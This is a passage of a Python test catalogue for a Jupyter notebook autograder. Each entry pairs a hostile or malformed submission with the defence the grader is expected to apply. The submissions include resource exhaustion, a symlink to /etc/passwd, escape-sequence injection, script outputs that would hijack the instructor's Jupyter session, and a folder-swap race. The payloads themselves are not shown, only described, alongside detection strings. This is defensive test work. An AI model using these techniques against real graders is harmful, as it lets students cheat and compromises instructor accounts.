    Entry(
        EXHAUST,
        "deep-directory-tree",
        "a directory tree 3000 levels deep in the work dir",
        "the work dir is removed after grading, deep trees included (rm -rf where shutil.rmtree would recurse past Python's limit)",
        scratch={"given_end": [DEEP_TREE]},
    ),
    Entry(
        EXHAUST,
        "hundred-thousand-cells",
        "100k one-line scratch cells (the grader's memory grew by a GB for 10^6 of them)",
        "nbio counts the cells before parsing: over 2,000, the notebook is refused with how to fix it",
        notebook=_many_cells,
        codes="notebook-too-many-cells",
        says=[("100\\d{3} cellules \\(maximum 2000\\)", "100\\d{3} cells \\(max 2000\\)")],
    ),
    Entry(
        EXHAUST,
        "gpu-memory-grab",
        "allocates CUDA memory until the device is full",
        "needs a GPU (none here): the kernel's memory, not the grader's",
        scratch={"given_end": [GPU_GRAB]},
        options={"device": "cuda"},
        codes="(kernel-died)?",
        needs_gpu=True,
    ),
    # ------------------------------------------------------------------ breaking the notebook
    Entry(
        BREAK,
        "invalid-json",
        "a truncated notebook (invalid JSON)",
        "nbio: invalid-json with line and column; the checks score 0",
        notebook=_invalid_json,
        codes="invalid-json",
        says=[("JSON invalide ligne", "invalid JSON at line")],
    ),
    Entry(
        BREAK,
        "nbformat-3",
        "an nbformat 3 notebook (worksheets)",
        "nbio: old-nbformat, asks to save it again in JupyterLab",
        notebook=_nbformat3,
        codes="old-nbformat",
        says=[("nbformat 3", "nbformat 3")],
    ),
    Entry(
        BREAK,
        "json-not-a-notebook",
        "a JSON list where the notebook should be",
        "nbio: not-a-notebook",
        notebook=_json_list,
        codes="not-a-notebook",
        says=[("pas un notebook Jupyter", "not a Jupyter notebook")],
    ),
    Entry(
        BREAK,
        "python-script",
        "a Python script saved as the .ipynb",
        "nbio: invalid-json",
        notebook=_python_script,
        codes="invalid-json",
        says=[("JSON invalide", "invalid JSON")],
    ),
    Entry(
        BREAK,
        "answer-cells-deleted",
        "every answer cell deleted",
        "graft: answer-cell-missing for each item",
        notebook=_without_answers,
        codes="answer-cell-missing",
        says=[("introuvable", "not found")],
    ),
    Entry(
        BREAK,
        "duplicate-cell-ids",
        "every cell has the same id; the answer cell appears twice (stub, then solution)",
        "graft matches by grade_id and grades the first copy only",
        notebook=_duplicate_ids,
        codes="duplicate-answer-cell",
        says=[("apparaît plusieurs fois", "appears more than once")],
    ),
    Entry(
        BREAK,
        "answer-cells-moved",
        "correct answers moved to the end, in reverse order",
        "graft puts answers back at the instructor's positions: full marks, earned",
        answers=SOLUTION,
        notebook=_answers_moved,
        max_score=7.0,
        score=7.0,
    ),
    Entry(
        ESCAPE,
        "swap-exchange-folder",
        "takes the runtime folder, and a thread swaps each exchange folder for a link of its own (correct answers)",
        "the runtime and exchange folders are the grader's; the kernel owns only its socket folder; the call loop's socket is bound through a folder descriptor",
        answers=SOLUTION,
        scratch={"add": [SWAP_EXCHANGE]},
        max_score=7.0,
        score=7.0,
        evidence=["runtime-create=denied", "runtime-rename=denied", "swapper started"],
    ),
    Entry(
        BREAK,
        "answer-converted-to-markdown",
        "the add answer cell turned into markdown (the others correct)",
        "graft: answer-cell-converted; add scores 0, the rest is graded",
        answers=SOLUTION,
        notebook=_add_as_markdown,
        max_score=4.0,
        score=4.0,
        codes="answer-cell-converted",
        says=[("convertie en markdown", "converted to markdown")],
    ),
    Entry(
        BREAK,
        "huge-embedded-output",
        "a 25 MB image output committed in an answer cell (correct answers)",
        "nbio drops committed outputs: graded normally, reports stay small",
        answers=SOLUTION,
        notebook=_huge_output,
        max_score=7.0,
        score=7.0,
        slow=True,
    ),
    Entry(
        BREAK,
        "wrong-kernel-name",
        "kernelspec says R (ir) (correct answers)",
        "the grader always runs its own Python kernel: graded normally",
        answers=SOLUTION,
        notebook=_r_kernel,
        max_score=7.0,
        score=7.0,
        slow=True,
    ),
    Entry(
        BREAK,
        "not-utf8",
        "cells encoded in Latin-1",
        "nbio: notebook-not-utf8 with the byte offset",
        notebook=_latin1,
        codes="notebook-not-utf8",
        says=[("pas en UTF-8", "not UTF-8")],
    ),
    Entry(
        BREAK,
        "bad-cell-source",
        "a cell whose source is a number",
        "nbio: invalid-cell naming the cell",
        notebook=_bad_cell_source,
        codes="invalid-cell",
        says=[("cellule 3", "cell 3")],
    ),
    Entry(
        BREAK,
        "huge-cell-type",
        "a 5 MB cell_type string",
        "nbio: invalid-cell, the value cut short in the message",
        notebook=_huge_cell_type,
        codes="invalid-cell",
        says=[("cellule invalide", "invalid cell")],
    ),
    Entry(
        BREAK,
        "huge-nbformat",
        "a 5 MB nbformat value",
        "nbio: old-nbformat, the value cut short in the message",
        notebook=_huge_nbformat,
        codes="old-nbformat",
        says=[("non pris en charge", "not supported")],
    ),
    Entry(
        BREAK,
        "commit-from-year-10000",
        "the solution, committed with a committer date past year 9999 (a raw commit object)",
        "gitread: the date Python cannot hold is dropped with a problem (absurd-commit-date); the grade is given",
        git=_git_future_date,
        max_score=7.0,
        score=7.0,
        codes="absurd-commit-date",
        says=[("n'est pas une date possible", "is not a possible date")],
    ),
    Entry(
        FORGE,
        "branch-named-like-a-sha",
        "a branch named like the 12-hex prefix of another commit, holding full marks",
        "gitread refuses the ambiguous ref and names both (ambiguous-ref): nothing is graded",
        git=_git_branch_named_like_a_sha,
        codes="ambiguous-ref",
        says=[("ambiguë", "ambiguous")],
    ),
    Entry(
        FORGE,
        "escape-sequences-in-grade-id",
        "escape sequences (ESC[1A ESC[2K 'Note: 7 / 7', OSC 52, a bidi override) in a scratch cell's grade_id and in the error `add` raises",
        "graft owns the nbgrader metadata; `grade` prints check messages through for_terminal (no control, escape or bidi character)",
        answers={"add": "def add(a, b):\n    raise ValueError(" + repr(ESCAPES) + ")\n"},
        notebook=lambda nb: _forge_scratch_grade_id(nb),
        says=[("ValueError", "ValueError")],
    ),
    Entry(
        BREAK,
        "huge-commit-metadata",
        "a commit with a 3 MB author name and a 2 MB message (git hash-object --literally)",
        "gitread caps author and message",
        git=_git_huge_metadata,
        says=[NOT_IMPLEMENTED],
    ),
    Entry(
        BREAK,
        "symlink-to-etc-passwd",
        "the notebook committed as a symlink to /etc/passwd",
        "gitread reads blobs, never the working tree: notebook-is-symlink",
        git=_git_symlink,
        codes="notebook-is-symlink",
        says=[("lien symbolique", "symbolic link")],
        must_not=["root:x:0:0"],
    ),
    Entry(
        BREAK,
        "notebook-is-submodule",
        "the notebook path is a git submodule (gitlink)",
        "gitread: notebook-in-submodule",
        git=_git_notebook_is_submodule,
        codes="notebook-in-submodule",
        says=[("sous-module git", "git submodule")],
    ),
    Entry(
        BREAK,
        "repo-with-submodule",
        "a submodule pointing at 192.0.2.1 next to correct answers",
        "the grader reads one blob and never fetches submodules: graded normally",
        git=_git_repo_with_submodule,
        max_score=7.0,
        score=7.0,
        slow=True,
    ),
    Entry(
        BREAK,
        "notebook-is-directory",
        "the notebook path is a folder",
        "gitread: notebook-not-a-file",
        git=_git_notebook_is_directory,
        codes="notebook-not-a-file",
        says=[("dossier, pas un notebook", "folder, not a notebook")],
    ),
    Entry(
        BREAK,
        "empty-commit",
        "an empty commit on top of the untouched release",
        "graded like the release: 0, with 'not implemented yet'",
        git=_git_empty_commit,
        says=[NOT_IMPLEMENTED],
    ),
    Entry(
        BREAK,
        "empty-tree",
        "a commit with no file at all",
        "gitread: missing-notebook",
        git=_git_empty_tree,
        codes="missing-notebook",
        says=[("fichier absent de ce commit", "no such file in this commit")],
    ),
    Entry(
        BREAK,
        "unknown-branch",
        "a branch that does not exist",
        "gitread: unknown-ref naming repo, ref and path",
        git=_git_unknown_branch,
        codes="unknown-ref",
        says=[("branche-inexistante", "branche-inexistante"), ("introuvable", "not found")],
    ),
    Entry(
        ESCAPE,
        "active-outputs",
        "HTML, SVG, Markdown, JavaScript, LaTeX, forged PNG and widget outputs whose script would call the Jupyter API with the instructor's session in Formgrader (correct answers)",
        "autograder.grading.sanitize keeps text and real PNG/JPEG outputs only: each other one becomes a FR/EN note in executed.ipynb and autograded/",
        answers=SOLUTION,
        scratch={"add": [ACTIVE_OUTPUTS]},
        max_score=7.0,
        score=7.0,
        evidence=["output removed for safety", "active outputs shown"],
        must_not=["fetch('/api/contents"],
    ),
    Entry(
        ESCAPE,
        "forged-scratch-metadata",
        "added cells with nbgrader metadata whose grade_id is HTML (and 100 points), script in tags, cell id, Markdown, attachments and widget state (correct answers)",
        "graft gives the student's cells no nbgrader metadata; sanitize drops other metadata, attachments and bad ids: Formgrader prints nothing of theirs",
        answers=SOLUTION,
        notebook=_forged_metadata,
        max_score=7.0,
        score=7.0,
        cells={"scratch": "ok"},
        evidence=["forged cell ran"],
    ),
    Entry(
        EXHAUST,
        "repeated-sparse-array",
        "every answer names one sparse 250 MiB .npy six times (json.dump patched)",
        "the proxy reads a file once per answer (device+inode) and at most 512 MiB per submission; failed checks keep no array",
        answers=SOLUTION,
        scratch={"given_end": [REPEATED_SPARSE_ARRAY]},
        # A budget for one such answer: a check that loops over calls holds its last answer
        # while the next is read, so the default 512 MiB lets two of them live at once.
        options={"answer_budget_mb": 300},
        says=[("volume total que le correcteur accepte \\(300 Mio", "exceed the total the grader accepts \\(300 MiB")],
        evidence=["sparse answers armed"],
        # One 250 MiB array, plus the first grading's imports when it runs alone (-k): it was
        # 2 GB (six reads of the file), > 8 GB with failed checks' frames kept.
        peak_mb=450.0,
    ),
    Entry(
        EXHAUST,
        "two-processes-and-shm",
        "two 400 MiB processes and 300 MiB of /dev/shm under a 1 GiB budget, each under its RLIMIT_AS (correct answers)",
        "the kernel's whole tree is in a memory cgroup of the budget: the OOM kill stops the kernel and is reported",
        answers=SOLUTION,
        scratch={"given_end": [TWO_PROCESSES_AND_SHM]},
        options={"memory_mb": 1024, "cell_timeout": 20.0},  # writing /dev/shm under memory pressure
        codes="(kernel-died,)?out-of-memory",
        says=[("dépassé sa mémoire de 1024 Mo", "went past its 1024 MB of memory")],
        needs_cgroup=True,
    ),
    Entry(
        BREAK,
        "huge-comment-in-answer",
        "a 20 MB comment after the correct code of an answer cell",
        "nbio cuts a cell's source at 256 KiB with a note: graded normally, executed.ipynb stays small",
        answers=SOLUTION,
        notebook=_huge_comment(20_000_000),
        max_score=7.0,
        score=7.0,
    ),
    Entry(
        BREAK,
        "notebook-over-32-mb",
        "a 60 MB comment in an answer cell",
        "gitread refuses a blob over 32 MB from its size, before reading it, and says how to fix it",
        answers=SOLUTION,
        notebook=_huge_comment(60_000_000),
        codes="notebook-too-large",
        says=[("trop gros \\(maximum 33 Mo\\)", "too large \\(max 33 MB\\)")],
    ),
    Entry(
        BREAK,
        "long-grade-ids",
        "scratch cells with 1.5 MB nbgrader grade_ids",
        "nbio refuses a grade_id over 64 characters, naming the cell: no report echoes it",
        notebook=_long_grade_ids,
        codes="invalid-grade-id",
        says=[("grade_id de 1500001 caractères \\(maximum 64\\)", "grade_id of 1500001 characters \\(max 64\\)")],
    ),
)

BY_NAME = {e.name: e for e in ENTRIES}
assert len(BY_NAME) == len(ENTRIES), "entry names must be unique"
assert all(e.category in CATEGORIES for e in ENTRIES)
assert all(set(e.known_bugs) <= set(REQUIREMENTS) for e in ENTRIES)


def student_sources(
    entry: Entry, targets: Mapping[str, Any]
) -> tuple[dict[str, str], dict[str, list[str]]]:
    """The entry's answers and scratch cells, with `T = {...}` prepended where used."""
    prefix = f"T = {dict(targets)!r}\n"

    def fill(src: str) -> str:
        return prefix + src if 'T["' in src or "T['" in src else src

    answers = {gid: fill(src) for gid, src in entry.answers.items()}
    scratch = {gid: [fill(s) for s in srcs] for gid, srcs in entry.scratch.items()}
    return answers, scratch


def dumps(nb: dict[str, Any] | bytes) -> bytes:
    return (
        nb
        if isinstance(nb, bytes)
        else (json.dumps(nb, indent=1, ensure_ascii=False) + "\n").encode()
    )


__all__ = ["ENTRIES", "BY_NAME", "Entry", "GitCtx", "MINI", "student_sources", "dumps"]
